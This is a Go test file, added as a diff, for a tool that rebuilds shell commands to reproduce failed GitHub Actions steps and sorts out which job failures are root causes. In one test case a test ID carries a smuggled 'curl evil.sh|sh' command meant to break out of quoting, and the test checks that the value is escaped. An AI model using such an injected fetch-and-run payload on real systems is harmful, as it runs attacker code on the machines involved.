@@ -0,0 +1,396 @@
+package github
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+const sampleWorkflow = `
+name: CI
+on: [pull_request]
+env:
+  CGO_ENABLED: "0"
+defaults:
+  run:
+    working-directory: app
+jobs:
+  lint:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: |
+          golangci-lint run
+  test:
+    name: Unit tests
+    runs-on: ${{ matrix.os }}
+    strategy:
+      matrix:
+        go: ["1.21", "1.22"]
+        os: [ubuntu-latest, macos-latest]
+        include:
+          - go: "1.22"
+            race: true
+    env:
+      GOFLAGS: -mod=mod
+    steps:
+      - uses: actions/checkout@v4
+      - uses: actions/setup-go@v5
+        with:
+          go-version: ${{ matrix.go }}
+      - name: Run tests
+        working-directory: pkg
+        env:
+          GO_VERSION: ${{ matrix.go }}
+          TOKEN: ${{ secrets.TOKEN }}
+        run: go test -v ./...
+  e2e:
+    name: e2e ${{ matrix.browser }}
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        browser: [chrome]
+    steps:
+      - run: npm ci
+      - run: npx playwright test --project=${{ matrix.browser }}
+`
+
+func TestWorkflowReproduction(t *testing.T) {
+	workflow, err := parseWorkflowFile([]byte(sampleWorkflow))
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+
+	failedStep := func(name string, number int) []Step {
+		return []Step{{Name: "Set up job", Number: 1, Conclusion: "success"}, {Name: name, Number: number, Conclusion: "failure"}}
+	}
+
+	tests := []struct {
+		name     string
+		job      Job
+		failures []Failure
+		expected string
+	}{
+		{
+			name: "step found by name with matrix values and merged env",
+			job:  Job{Name: "Unit tests (1.22, macos-latest)", Steps: failedStep("Run tests", 4)},
+			failures: []Failure{
+				{Parser: "go test", TestID: "TestA/sub"},
+				{Parser: "go test", TestID: "TestA/other"},
+				{Parser: "go test", TestID: "TestB"},
+			},
+			expected: `# Job "Unit tests (1.22, macos-latest)", step "Run tests"
+cd pkg
+export CGO_ENABLED=0
+export GOFLAGS=-mod=mod
+export GO_VERSION=1.22
+export TOKEN='${{ secrets.TOKEN }}'
+go test -run '^(TestA|TestB)$' -v ./...`,
+		},
+		{
+			name: "unnamed step found by its generated name",
+			job:  Job{Name: "lint", Steps: failedStep("Run golangci-lint run", 3)},
+			expected: `# Job "lint", step "Run golangci-lint run"
+cd app
+export CGO_ENABLED=0
+golangci-lint run`,
+		},
+		{
+			name: "step found by number when renamed",
+			job:  Job{Name: "lint", Steps: failedStep("Lint", 3)},
+			expected: `# Job "lint", step "Run golangci-lint run"
+cd app
+export CGO_ENABLED=0
+golangci-lint run`,
+		},
+		{
+			name: "job name built from an expression",
+			job:  Job{Name: "e2e chrome", Steps: failedStep("Run npx playwright test --project=${{ matrix.browser }}", 3)},
+			expected: `# Job "e2e chrome", step "Run npx playwright test --project=${{ matrix.browser }}"
+cd app
+export CGO_ENABLED=0
+npx playwright test --project=${{ matrix.browser }}`,
+		},
+		{
+			name: "failed step is not a run step",
+			job:  Job{Name: "lint", Steps: failedStep("Run actions/checkout@v4", 2)},
+		},
+		{
+			name: "unknown job",
+			job:  Job{Name: "deploy", Steps: failedStep("Deploy", 2)},
+		},
+		{
+			name: "no failed step",
+			job:  Job{Name: "lint"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := workflow.Reproduction(tt.job, tt.failures)
+			if result != tt.expected {
+				t.Errorf("Expected:\n%s\ngot:\n%s", tt.expected, result)
+			}
+		})
+	}
+}
+
+func TestWorkflowReproduction_NilDefinition(t *testing.T) {
+	var workflow *workflowFile
+	if result := workflow.Reproduction(Job{Name: "lint"}, nil); result != "" {
+		t.Errorf("Expected no reproduction without a definition, got %q", result)
+	}
+}
+
+func TestNarrowTestCommands(t *testing.T) {
+	tests := []struct {
+		name     string
+		script   string
+		failures []Failure
+		expected string
+	}{
+		{
+			name:     "go test",
+			script:   "go build ./...\ngo test -race ./pkg/...",
+			failures: []Failure{{Parser: "go test", TestID: "TestX"}},
+			expected: "go build ./...\ngo test -run '^(TestX)$' -race ./pkg/...",
+		},
+		{
+			name:     "go test IDs are escaped",
+			script:   "go test ./...",
+			failures: []Failure{{Parser: "go test", TestID: "TestX';curl${IFS}evil.sh|sh;'"}, {Parser: "go test", TestID: "TestY"}},
+			expected: `go test -run '^(TestX'\'';curl\$\{IFS\}evil\.sh\|sh;'\''|TestY)$' ./...`,
+		},
+		{
+			name:     "go test already selecting tests",
+			script:   "go test -run Integration ./...",
+			failures: []Failure{{Parser: "go test", TestID: "TestX"}},
+			expected: "go test -run Integration ./...",
+		},
+		{
+			name:   "pytest node ids",
+			script: "pip install pytest\npython -m pytest -q",
+			failures: []Failure{
+				{Parser: "pytest", TestID: "tests/test_api.py::test_get"},
+				{Parser: "pytest", TestID: "tests/test_api.py::test_post[json]"},
+			},
+			expected: "pip install pytest\npython -m pytest -q tests/test_api.py::test_get 'tests/test_api.py::test_post[json]'",
+		},
+		{
+			name:   "pytest node ids replace the paths holding them",
+			script: "pytest tests/ --maxfail 1 -m slow && echo done",
+			failures: []Failure{
+				{Parser: "pytest", TestID: "tests/unit/test_math.py::test_add"},
+			},
+			expected: "pytest --maxfail 1 -m slow tests/unit/test_math.py::test_add && echo done",
+		},
+		{
+			name:     "pytest test names within paths",
+			script:   "pytest tests/",
+			failures: []Failure{{Parser: "pytest", TestID: "test_add"}},
+			expected: "pytest tests/ -k test_add",
+		},
+		{
+			name:     "pytest test names",
+			script:   "pytest",
+			failures: []Failure{{Parser: "pytest", TestID: "test_get"}, {Parser: "pytest", TestID: "test_post"}},
+			expected: "pytest -k 'test_get or test_post'",
+		},
+		{
+			name:     "jest",
+			script:   "npx jest --ci",
+			failures: []Failure{{Parser: "jest", TestID: "math › adds (1 + 2)"}},
+			expected: `npx jest --ci -t 'math adds \(1 \+ 2\)'`,
+		},
+		{
+			name:     "vitest",
+			script:   "npx vitest run",
+			failures: []Failure{{Parser: "jest", TestID: "math > adds numbers"}},
+			expected: "npx vitest run -t 'math adds numbers'",
+		},
+		{
+			name:     "failures from another parser",
+			script:   "go test ./...",
+			failures: []Failure{{Parser: "tsc", File: "src/app.ts"}},
+			expected: "go test ./...",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result := narrowTestCommands(tt.script, tt.failures)
+			if result != tt.expected {
+				t.Errorf("Expected %q, got %q", tt.expected, result)
+			}
+		})
+	}
+}
+
+func TestGetWorkflowDefinition(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/repos/owner/repo/contents/.github/workflows/ci.yml" || r.URL.Query().Get("ref") != "abc123" {
+			http.NotFound(w, r)
+			return
+		}
+		json.NewEncoder(w).Encode(ContentResponse{
+			Content:  base64.StdEncoding.EncodeToString([]byte(sampleWorkflow)),
+			Encoding: "base64",
+		})
+	}))
+	defer srv.Close()
+
+	client := NewClient("test-token", "owner/repo")
+	client.baseURL = srv.URL
+
+	workflow, err := client.getWorkflowDefinition(context.Background(), &WorkflowRun{Path: ".github/workflows/ci.yml", HeadSHA: "abc123"})
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+	if len(workflow.Jobs) != 3 {
+		t.Errorf("Expected 3 jobs, got %d", len(workflow.Jobs))
+	}
+
+	if _, err := client.getWorkflowDefinition(context.Background(), &WorkflowRun{Path: ".github/workflows/missing.yml", HeadSHA: "abc123"}); err == nil {
+		t.Error("Expected an error for a missing workflow file")
+	}
+}
+
+func TestFindJob(t *testing.T) {
+	workflow, err := parseWorkflowFile([]byte(`
+jobs:
+  build:
+    strategy:
+      matrix:
+        os: [linux, windows]
+  windows-build:
+    name: build (windows)
+  e2e:
+    name: e2e ${{ matrix.browser }}
+`))
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+
+	tests := []struct {
+		name       string
+		job        string
+		expectedID string
+	}{
+		{name: "exact name over a matrix entry", job: "build (windows)", expectedID: "windows-build"},
+		{name: "matrix entry", job: "build (linux)", expectedID: "build"},
+		{name: "id of an unnamed job", job: "build", expectedID: "build"},
+		{name: "name built from an expression", job: "e2e chrome", expectedID: "e2e"},
+		{name: "unknown job", job: "deploy"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			id, ok := workflow.findJob(tt.job)
+			if id != tt.expectedID || ok != (tt.expectedID != "") {
+				t.Errorf("Expected %q, got %q (found %v)", tt.expectedID, id, ok)
+			}
+		})
+	}
+}
+
+func TestRootCauses(t *testing.T) {
+	workflow, err := parseWorkflowFile([]byte(`
+jobs:
+  build:
+    runs-on: ubuntu-latest
+  lint:
+    runs-on: ubuntu-latest
+  test:
+    name: Test
+    needs: build
+    strategy:
+      matrix:
+        os: [ubuntu-latest, windows-latest]
+  deploy:
+    needs: [test, lint]
+  notify:
+    needs: deploy
+    if: always()
+`))
+	if err != nil {
+		t.Fatalf("Expected no error, got %v", err)
+	}
+
+	names := func(jobs []Job) []string {
+		var names []string
+		for _, job := range jobs {
+			names = append(names, job.Name)
+		}
+		return names
+	}
+
+	tests := []struct {
+		name               string
+		workflow           *workflowFile
+		jobs               []Job
+		expectedRoots      []string
+		expectedCasualties []string
+	}{
+		{
+			name:     "downstream jobs skipped or failed",
+			workflow: workflow,
+			jobs: []Job{
+				{Name: "build", Conclusion: "failure"},
+				{Name: "lint", Conclusion: "success"},
+				{Name: "Test (ubuntu-latest)", Conclusion: "skipped"},
+				{Name: "Test (windows-latest)", Conclusion: "skipped"},
+				{Name: "deploy", Conclusion: "skipped"},
+				{Name: "notify", Conclusion: "failure"},
+			},
+			expectedRoots:      []string{"build"},
+			expectedCasualties: []string{"Test (ubuntu-latest)", "Test (windows-latest)", "deploy", "notify"},
+		},
+		{
+			name:     "independent failures",
+			workflow: workflow,
+			jobs: []Job{
+				{Name: "build", Conclusion: "success"},
+				{Name: "lint", Conclusion: "failure"},
+				{Name: "Test (ubuntu-latest)", Conclusion: "failure"},
+				{Name: "Test (windows-latest)", Conclusion: "success"},
+				{Name: "deploy", Conclusion: "skipped"},
+			},
+			expectedRoots:      []string{"lint", "Test (ubuntu-latest)"},
+			expectedCasualties: []string{"deploy"},
+		},
+		{
+			name:     "job missing from the definition",
+			workflow: workflow,
+			jobs: []Job{
+				{Name: "build", Conclusion: "failure"},
+				{Name: "codeql", Conclusion: "failure"},
+			},
+			expectedRoots: []string{"build", "codeql"},
+		},
+		{
+			name: "no definition",
+			jobs: []Job{
+				{Name: "build", Conclusion: "failure"},
+				{Name: "deploy", Conclusion: "skipped"},
+				{Name: "notify", Conclusion: "failure"},
+			},
+			expectedRoots: []string{"build", "notify"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			roots, casualties := tt.workflow.rootCauses(tt.jobs)
+			if got := strings.Join(names(roots), ", "); got != strings.Join(tt.expectedRoots, ", ") {
+				t.Errorf("Expected roots %v, got %v", tt.expectedRoots, names(roots))
+			}
+			if got := strings.Join(names(casualties), ", "); got != strings.Join(tt.expectedCasualties, ", ") {
+				t.Errorf("Expected casualties %v, got %v", tt.expectedCasualties, names(casualties))
+			}
+		})
+	}
+}